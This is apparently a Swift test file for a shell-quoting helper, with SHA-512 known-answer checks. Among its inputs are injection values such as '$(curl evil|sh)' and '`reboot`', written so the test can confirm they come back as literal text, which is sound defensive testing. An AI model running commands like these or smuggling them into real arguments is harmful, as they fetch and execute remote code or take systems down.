import Testing
@testable import DiscoCore

@Suite struct ShellQuotingTests {
    @Test("quoted values read back verbatim by bash", arguments: [
        "plain", "it's", "$(curl evil|sh)", "`reboot`", "a\nb", "'", "''", "\\", "${HOME}", "\"q\"", "", "ä ö 🎉",
    ])
    func roundTripsThroughBash(value: String) async throws {
        let echoed = try await runBash("printf '%s' \(ShellQuoting.quote(value))")
        #expect(echoed == value)
    }

    @Test func identifiers() {
        #expect(ShellQuoting.identifier("DISCO", "spark-sql", "executor_memory") == "DISCO_SPARK_SQL_EXECUTOR_MEMORY")
        #expect(ShellQuoting.functionSegment("spark-sql") == "spark_sql")
    }

    @Test func sha512KnownVectors() async {
        #expect(SHA512.hex("abc") == "ddaf35a193617abacc417349ae20413112e6fa4e89a97ea20a9eeee64b55d39a2192992a274fc1a836ba3c23a3feebbd454d4423643ce80e2a9ac94fa54ca49f")
        #expect(SHA512.hex("") == "cf83e1357eefb8bdf1542850d66d8007d620e4050b5715dc83f4a921d36ce9ce47d0d13c5d85f2b0ff8318d2877eec2f63b931bd47417a81a538327af927da3e")
        let long = String(repeating: "a", count: 1000)
        #expect(SHA512.hex(long) == (try? await runBash("printf '%s' \(ShellQuoting.quote(long)) | sha512sum | cut -d' ' -f1 | tr -d '\\n'")))
    }
}
